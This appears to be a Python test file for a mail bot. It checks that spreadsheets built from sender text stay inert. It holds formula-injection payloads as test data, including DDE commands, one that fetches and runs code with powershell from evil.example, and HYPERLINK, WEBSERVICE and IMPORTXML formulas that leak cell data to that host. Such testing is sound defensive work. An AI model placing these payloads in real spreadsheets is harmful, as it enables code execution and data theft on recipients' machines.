"""Every workbook the robot writes keeps sender text as text: no formula, no error value, nothing live, read back.

Property-style: a few hundred hostile strings (formula, DDE and HYPERLINK payloads behind every trigger character,
error literals, control characters) go into subjects, senders, unit names, form cells and problem texts; the ledger
workbook, every 汇总 export, every dashboard download and the annotated copy are read back with openpyxl.
"""

from __future__ import annotations

import io
import random
import re
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from mailbot.demo.inbox import rows_attachment3
from mailbot.ledger.models import OutboxAttachmentRow, UnitRow
from mailbot.reports.exports import export_files
from mailbot.reports.workbook import build_ledger_workbook
from mailbot.web import create_app
from mailbot.web.users import add_user
from parsers.annotate import annotate_workbook
from parsers.problems import error
from parsers.safety.cellsafe import FORMULA_START
from tests.mailbot.test_pipeline import a3_mail, run
from tests.mailbot.test_workbook import A3_ROWS, NOW, ZWFW, add_message, add_return, at

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "=\n", " =")
PAYLOADS = (
    'HYPERLINK("http://evil.example/?leak="&A1&B1,"点击查看")',
    "cmd|' /C calc'!A0",
    "cmd|'/c powershell IEX(wget evil.example/x)'!_xlbgnm.A1",
    'WEBSERVICE("http://evil.example/"&C3)',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "1+1",
    "A1",
    "'[外部.xlsx]Sheet1'!A1",
    'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "3",
)
LITERALS = ("#N/A", "#REF!", "#DIV/0!", "TRUE", "-3", "+86 0482-8267388", "@所有人", "=", "-", "—")


def hostile_strings(count: int = 300, seed: int = 20230104, noise_nul: bool = True) -> list[str]:
    """Distinct formula-looking strings of every shape, with CJK text and control characters mixed in."""
    rng = random.Random(seed)
    out = dict.fromkeys([t + p for t in TRIGGERS for p in PAYLOADS] + list(LITERALS))
    noise = ["", "两优", "\x07", "\x1b[31m", "\u202e", "\ufeff", " ", "\n", "附件3"] + (["\x00"] if noise_nul else [])
    while len(out) < count:
        text = rng.choice(TRIGGERS) + rng.choice(PAYLOADS)
        cut = rng.randrange(len(text) + 1)
        out[text[:cut] + rng.choice(noise) + text[cut:] + rng.choice(noise)] = None
    return list(out)


def as_stored(text: str) -> str:
    """What a cell may keep of a string: everything but the characters XML cannot carry."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


def read_back(data: bytes) -> list:
    """Every cell of every sheet, after checking the parts hold no formula, external link, DDE or macro."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        assert not [n for n in names if "externalLink" in n or "vbaProject" in n or "pivot" in n.lower()]
        for name in names:
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"a formula in {name}"
                assert "<hyperlink" not in xml
        assert b"ddeLink" not in b"".join(z.read(n) for n in names)
        names_defined = re.findall(rb'<definedName [^>]*name="([^"]+)"', z.read("xl/workbook.xml"))
        assert all(n.startswith(b"_xlnm.") for n in names_defined)  # print titles and filters only
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


def assert_all_text(cells, strings: list[str]) -> None:
    kept = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in strings:
        stored = as_stored(text)
        assert stored in kept, f"{text!r} missing or changed"
        assert kept[stored].data_type == "s"
        if stored.startswith(FORMULA_START):
            assert kept[stored].quotePrefix, f"{stored!r} is not quote-prefixed"


UNITS = 4


@pytest.fixture
def hostile_ledger(app):
    """A ledger in which every text a sender (or a careless roster) controls is hostile (no NUL: no database keeps one)."""
    strings = hostile_strings(noise_nul=False)
    with app.ledger.transaction() as s:
        for n in range(UNITS):
            name = strings[n]
            s.add(UnitRow(name=name, category="政府", emails=[f"u{n}@example.com"], contact=strings[-1 - n], phone=strings[n + UNITS]))
            s.flush()
            m = add_message(s, name, ZWFW, at(1, 10 + n % 8, 9 + n % 8), f"政务服务局〔2023〕收字第{n + 100:04d}号",
                            subject=strings[n + 2 * UNITS], sender=f"{strings[n + 3 * UNITS][:40]}@example.com")
            mine = strings[n::UNITS]  # every string reaches some unit's rows and problems once
            rows = [dict(A3_ROWS[0], 序号=str(k + 1), 事项名称=text, 原办理环节=mine[-1 - k]) for k, text in enumerate(mine)]
            rows[0]["压缩自然日/工作日"] = -3  # a number the sender typed stays a number
            problems = [{"severity": "warning", "row": k + 1, "column": "事项名称", "cell": f"B{k + 6}", "value": text, "code": "x", "message": text}
                        for k, text in enumerate(mine)]
            add_return(s, m, "attachment3", rows=rows, problems=problems)
    return app, strings


def test_the_ledger_workbook_keeps_sender_text_as_text(hostile_ledger):
    app, strings = hostile_ledger
    with app.ledger.session() as s:
        for office in (None, "zwfw"):
            assert_all_text(read_back(build_ledger_workbook(s, app.campaign, NOW, office)), strings)


def test_every_export_keeps_sender_text_as_text_and_numbers_as_numbers(hostile_ledger):
    app, strings = hostile_ledger
    with app.ledger.session() as s:
        files = export_files(s, app.campaign, NOW, None) | export_files(s, app.campaign, NOW, "zwfw")
    summary = read_back(files["政务服务局_附件3汇总表.xlsx"])
    assert_all_text(summary, strings)
    assert [c for c in summary if c.value == -3 and c.data_type == "n"]
    for data in files.values():
        assert_all_text([c for c in read_back(data) if isinstance(c.value, str) and c.value in strings[:UNITS]], [])


def test_every_dashboard_download_keeps_sender_text_as_text(hostile_ledger):
    app, strings = hostile_ledger
    with app.ledger.transaction() as s:
        add_user(s, app.campaign, "admin", "admin", "admin-pass-1", NOW)
    web = create_app(app, secret="test-secret-0123456789", now=lambda: NOW)
    client = web.test_client()
    from tests.mailbot.test_web import login

    assert login(client, "admin", "admin-pass-1").status_code == 302
    slugs = re.findall(r'data-slug="([^"]+)"', client.get("/").text)
    assert "ledger" in slugs and len(slugs) >= 5
    for slug in slugs:
        response = client.get(f"/download/{slug}")
        assert response.status_code == 200
        cells = read_back(response.data)
        if slug == "ledger":
            assert_all_text(cells, strings)


def hostile_workbook(strings: list[str]) -> bytes:
    """The sender's own workbook: hostile text, live formulas (one never computed), a hyperlink, a defined name."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "附件3"
    for n, text in enumerate(strings, start=1):
        ws.cell(row=n, column=1).value = as_stored(text)  # no XML part can carry the others
        ws.cell(row=n, column=1).data_type = "s"  # stored as a string, as a sender's program would
    ws["B1"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    ws["B2"] = "=cmd|' /C calc'!A0"
    ws["B3"] = -3
    ws["C1"].hyperlink = "http://evil.example/"
    from openpyxl.workbook.defined_name import DefinedName

    book.defined_names["leak"] = DefinedName("leak", attr_text="WEBSERVICE(\"http://evil.example\")")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_the_annotated_copy_is_values_only(tmp_path):
    strings = hostile_strings(120)
    copy = annotate_workbook(hostile_workbook(strings), [error("x", "请修改", cell="A2", sheet="附件3")])
    cells = read_back(copy)
    assert_all_text([c for c in cells if c.column == 1], strings)
    ws = openpyxl.load_workbook(io.BytesIO(copy))["附件3"]
    assert ws["B2"].value == "=cmd|' /C calc'!A0" and ws["B2"].data_type == "s" and ws["B2"].quotePrefix  # never computed: kept as inert text
    assert ws["B3"].value == -3 and ws["B3"].data_type == "n"
    assert ws["A2"].comment.text == "请修改"


def test_the_annotated_copy_keeps_what_the_senders_program_computed(tmp_path):
    # A workbook saved by a spreadsheet program carries each formula's last value: the copy shows that value.
    source = tmp_path / "computed.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(source)
    with zipfile.ZipFile(source) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace(b"<f>1+1</f><v></v>", b"<f>1+1</f><v>2</v>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    copy = annotate_workbook(out.getvalue(), [error("x", "请修改", cell="A1")])
    cell = read_back(copy)[0]
    assert cell.value == 2 and cell.data_type == "n"


def test_a_forged_senders_workbook_comes_back_inert(app):
    # A From forged to a roster address: the office's own mailbox sends the annotated copy, so it must carry nothing live.
    payloads = ['=HYPERLINK("http://evil.example/?"&C7,"点击")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"]
    rows = rows_attachment3()
    rows[0].update(事项名称=payloads[0], 原办理环节=payloads[1], 现办理环节=payloads[2], 精减的环节名称=payloads[3], 内部管理事项="√")
    verdict = run(app, a3_mail(app, rows=rows))
    assert verdict["outcome"] == "invalid" and verdict["reply"]["state"] == "queued"
    with app.ledger.session() as s:
        copy = s.scalars(select(OutboxAttachmentRow.data)).one()
    assert_all_text(read_back(copy), payloads)
